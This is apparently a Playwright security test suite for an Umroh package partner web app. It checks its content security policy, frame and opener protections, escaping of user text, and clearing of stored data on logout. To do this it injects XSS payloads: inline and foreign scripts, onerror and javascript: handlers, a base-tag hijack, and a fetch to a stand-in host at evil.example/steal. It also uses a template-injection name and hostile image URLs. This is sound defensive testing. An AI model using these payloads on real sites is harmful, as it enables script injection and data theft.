import type { Page } from '@playwright/test'
import { ADMIN, LAPTOP, search } from '../support/adminSupport'
import {
  expect,
  failedToReach,
  failedWith,
  openList,
  openNewWizard,
  passwordOf,
  signIn,
  SITI,
  test,
  Wizard,
} from '../support/support'

const POLICY = /Content Security Policy|^error: CSP: /
const EVIL = 'https://evil.example'

/** Tries all that an injected text could do, and returns the attempts that succeeded. */
async function attack(page: Page): Promise<string[]> {
  await page.evaluate((evil) => {
    const came: string[] = []
    Object.assign(window, { came })
    const add = (tag: string, attributes: Record<string, string>, text = '') => {
      const element = Object.assign(document.createElement(tag), { textContent: text })
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
      document.body.append(element)
      return element
    }
    add('script', {}, 'came.push("inline script")')
    add('script', { src: `${evil}/x.js` })
    add('img', { src: 'data:image/png,none', onerror: 'came.push("handler")' })
    add('a', { href: 'javascript:void came.push("javascript: address")' }).click()
    add('iframe', { srcdoc: '<script>parent.came.push("framed script")</script>' })
    add('base', { href: `${evil}/` })
    if (document.baseURI.startsWith(evil)) came.push('another base')
    void fetch(`${evil}/steal`).then(
      () => came.push('request to another origin'),
      () => undefined,
    )
  }, EVIL)
  await page.waitForTimeout(500)
  return page.evaluate(() => (window as unknown as { came: string[] }).came)
}

test('the content security policy stops injected text from running and from sending data', async ({ page, noise }) => {
  noise.allow(POLICY, failedToReach, failedWith(404))
  const refused: string[] = []
  page.on('console', (line) => void (line.text().startsWith('CSP: ') && refused.push(line.text().split(' ')[1] ?? '')))
  await page.route(`${EVIL}/**`, (route) =>
    route.fulfill({
      body: 'came.push("foreign script")',
      contentType: 'text/javascript',
      headers: { 'access-control-allow-origin': '*' },
    }),
  )
  await page.goto('/')
  await expect(page.getByRole('link', { name: 'Umroh Reguler', exact: true })).toBeVisible()
  expect(await attack(page)).toEqual([])
  expect([...new Set(refused)].sort()).toEqual(['base-uri', 'connect-src', 'script-src-attr', 'script-src-elem'])

  // The same attack on a page without the policy succeeds, so the attack is real. The app's next call then goes to the
  // foreign base, which answers with a script.
  noise.allow(/^warning: \[api\] GET \/partner\/\S+: answer is not JSON$/)
  await page.route(
    (url) => url.pathname === '/profile',
    async (route) => {
      const answer = await route.fetch()
      const { 'content-security-policy': _, ...headers } = answer.headers()
      await route.fulfill({ response: answer, headers })
    },
  )
  await page.goto('/profile')
  await expect(page.getByRole('button', { name: 'Keluar' })).toBeVisible()
  expect((await attack(page)).sort()).toEqual([
    'another base',
    'foreign script',
    'framed script',
    'handler',
    'inline script',
    'javascript: address',
    'request to another origin',
  ])
})

test('no other site can put the app into a frame', async ({ page, baseURL, noise }) => {
  noise.allow(POLICY, failedToReach, /frame-ancestors|Refused to (frame|display)/)
  await page.route('http://evil.example/', (route) =>
    route.fulfill({ contentType: 'text/html', body: `<iframe src="${baseURL}/"></iframe>` }),
  )
  await page.goto('http://evil.example/')
  await expect.poll(() => page.frames()[1]?.url()).toMatch(/^chrome-error:/)
})

test('another site that opens the app in a window cannot control it', async ({ page, baseURL }) => {
  await page.route('http://evil.example/', (route) => route.fulfill({ contentType: 'text/html', body: 'evil' }))
  await page.goto('http://evil.example/')
  const [app] = await Promise.all([
    page.waitForEvent('popup'),
    page.evaluate((url) => void Object.assign(window, { app: open(url) }), `${baseURL}/`),
  ])
  await expect(app.getByRole('link', { name: 'Umroh Reguler', exact: true })).toBeVisible()
  expect(await app.evaluate(() => opener as unknown)).toBeNull()
  expect(await page.evaluate(() => (window as unknown as { app: Window }).app.closed)).toBe(true)
})

test.describe('texts of users are shown as text', () => {
  const NAME = '<img src=x onerror="window.hacked=1"><script>window.hacked=1</script>{{7*7}}'
  const unhurt = async (page: Page) => expect(await page.evaluate(() => 'hacked' in window)).toBe(false)

  test('markup in a name stays text in the list, the sheet, the detail, the wizard and the address', async ({
    page,
    api,
  }) => {
    const id = await api.create({ namaPaket: NAME })
    await openList(page, NAME)
    await expect(page.getByRole('article').first()).toContainText(NAME)
    await page.getByRole('article').first().getByRole('button', { name: 'Duplikat' }).click()
    await expect(page.getByRole('dialog').getByRole('textbox')).toHaveValue(`${NAME} (Copy)`)
    await unhurt(page)
    await page.goto(`/package/umroh-reguler/${id}`)
    await expect(page.getByRole('heading', { name: NAME })).toBeVisible()
    await page.goto(`/package/umroh-reguler/edit/${id}`)
    await expect(new Wizard(page).text('Nama Paket')).toHaveValue(NAME)
    await page.goto(`/package/umroh-reguler?q=${encodeURIComponent(`${NAME}!`)}`)
    await expect(page.getByText('Tidak ada yang cocok')).toBeVisible()
    await unhurt(page)
  })

  test.describe('for an admin', () => {
    test.use({ ...LAPTOP, account: ADMIN })
    test('markup in a name stays text in the table', async ({ page }) => {
      await page.goto('/package/umroh-reguler')
      await search(page).fill('window.hacked')
      await expect(page.locator('tbody').getByRole('row').first()).toContainText(NAME)
      await unhurt(page)
    })
  })
})

test('images load only from the assets origin', async ({ page, noise }) => {
  noise.allow(POLICY, failedWith(404))
  const images = [
    'javascript:alert(1)',
    'data:text/html,<script>1</script>',
    '//evil.example/a.png',
    '../api/partner/me',
    '/\\evil.example/a.png',
    'pesawat/..%2f..%2fapi/x',
    `${EVIL}/a.png`,
    'http://evil.example/a.png',
  ]
  const asked: string[] = []
  page.on('request', (request) => void (request.resourceType() === 'image' && asked.push(request.url())))
  await page.route('**/api/custom-data/pesawat', (route) =>
    route.fulfill({
      json: { data: { data: images.map((logo, id) => ({ id: id + 1, pesawat: `Maskapai ${id}`, price: id, logo })) } },
    }),
  )
  const wizard = await openNewWizard(page)
  const sheet = await wizard.open('Pesawat')
  await expect(sheet.getByRole('option')).toHaveCount(images.length)
  await page.waitForTimeout(300)
  // The policy refuses these addresses, so no answer arrives.
  const sources = await sheet
    .locator('img')
    .evaluateAll((all) => all.map((one) => (one as HTMLImageElement).currentSrc))
  for (const url of [...asked, ...sources])
    expect(new URL(url, page.url()).pathname, url).toMatch(/^\/media\/|^\/a\.png$/)
  expect(sources.filter((url) => url && !new URL(url).pathname.startsWith('/media/'))).toEqual([])
})

type Remains = {
  local: Record<string, string>
  tab: Record<string, string>
  databases: unknown[]
  caches: string[]
  cookies: string
}

/** Everything that this origin has stored in the browser. */
const remains = (page: Page): Promise<Remains> =>
  page.evaluate(async () => {
    const read = <T>(request: IDBRequest<T>) =>
      new Promise<T>((resolve, reject) => {
        request.onsuccess = () => resolve(request.result)
        request.onerror = () => reject(request.error)
      })
    const databases: unknown[] = []
    for (const { name = '' } of await indexedDB.databases()) {
      const database = await read(indexedDB.open(name))
      for (const store of database.objectStoreNames)
        databases.push(...(await read(database.transaction(store).objectStore(store).getAll())))
      database.close()
    }
    return {
      local: { ...localStorage },
      tab: { ...sessionStorage },
      databases,
      caches: await caches.keys(),
      cookies: document.cookie,
    }
  })

/** True if the browser's HTTP cache still holds the list for this token. */
const isListCached = (page: Page, token: string) =>
  page.evaluate(
    (held) =>
      fetch('/api/partner/umroh-regular?per_page=50', {
        cache: 'only-if-cached',
        mode: 'same-origin',
        headers: { authorization: `Bearer ${held}` },
      }).then(
        ({ ok }) => ok,
        () => false,
      ),
    token,
  )

test.describe('data that the browser stores', () => {
  test.use({ account: null })
  const PASSWORD = passwordOf(SITI)

  test('a signed-in browser stores the token in one place and never the password; Keluar deletes everything', async ({
    page,
    context,
    noise,
  }) => {
    noise.allow(failedToReach, failedWith(504), failedWith(401))
    const [lines, carried, addresses]: string[][] = [[], [], []]
    page.on('console', (line) => void lines?.push(line.text()))
    page.on('request', (request) => {
      addresses?.push(request.url())
      if (request.headers().authorization) carried?.push(new URL(request.url()).pathname)
    })
    await page.goto('/auth/login')
    await signIn(page)
    await expect(page).toHaveURL('/')
    const token = (await page.evaluate(() => localStorage.getItem('partner_token'))) ?? ''
    await page.getByRole('link', { name: 'Umroh Reguler', exact: true }).click()
    await page.getByRole('article').first().getByRole('link', { name: 'Detail' }).click()
    await expect(page.getByRole('link', { name: 'Kembali ke daftar', exact: true })).toBeVisible()
    const wizard = await openNewWizard(page)
    await wizard.open('Pesawat')
    await expect(page.getByRole('option').first()).toBeVisible()

    await expect.poll(async () => (await remains(page)).databases.length).toBeGreaterThanOrEqual(2)
    const { local, ...rest } = await remains(page)
    // The lists of Beranda and the copies of the list and of the offer profile go with the session.
    const own = Object.keys(local).filter(
      (key) => !/^((recent|follow-ups|news|offer-profile)\/\d+|list-copy)$/.test(key),
    )
    expect(own.sort()).toEqual(['partner-auth', 'partner_token'])
    expect(local['partner-auth']).not.toContain(token)
    expect(JSON.stringify([local, rest])).not.toContain(PASSWORD)
    expect(JSON.stringify(rest)).not.toContain(token)
    expect(await isListCached(page, token)).toBe(true)

    await page.goto('/profile')
    await page.getByRole('button', { name: 'Keluar' }).click()
    await expect(page.getByRole('button', { name: 'Login' })).toBeVisible()
    await expect.poll(() => isListCached(page, token)).toBe(false)
    await expect.poll(() => remains(page)).toEqual({ local: {}, tab: {}, databases: [], caches: [], cookies: '' })
    // The name of the device stays, so that strangers who guess cannot keep its user out. It signs nobody in.
    expect((await context.cookies()).map(({ name, path, httpOnly }) => [name, path, httpOnly])).toEqual([
      ['device', '/api/partner/login', true],
    ])
    const answer = await page.request.get('/api/partner/me', { headers: { authorization: `Bearer ${token}` } })
    expect(answer.status(), 'the token at the server').toBe(401)

    expect([...new Set(carried?.map((path) => path.split('/')[1]))]).toEqual(['api'])
    for (const secret of [token, PASSWORD])
      expect([...(lines ?? []), ...(addresses ?? [])].filter((text) => text.includes(secret))).toEqual([])
  })

  test('after a day without activity only the intended route remains', async ({ page }) => {
    await page.goto('/auth/login')
    await signIn(page)
    await page.getByRole('link', { name: 'Umroh Reguler', exact: true }).click()
    await expect(page.getByRole('article').first()).toBeVisible()
    await expect.poll(async () => (await remains(page)).databases.length).toBeGreaterThan(0)
    await page.evaluate(() => {
      const auth = JSON.parse(localStorage.getItem('partner-auth') ?? '{}') as object
      localStorage.setItem('partner-auth', JSON.stringify({ ...auth, lastActivity: Date.now() - 24 * 60 * 60_000 }))
    })
    await page.goto('/package/umroh-reguler')
    await expect(page.getByRole('button', { name: 'Login' })).toBeVisible()
    await expect
      .poll(() => remains(page))
      .toEqual({ local: {}, tab: { intended_route: '/package/umroh-reguler' }, databases: [], caches: [], cookies: '' })
  })
})
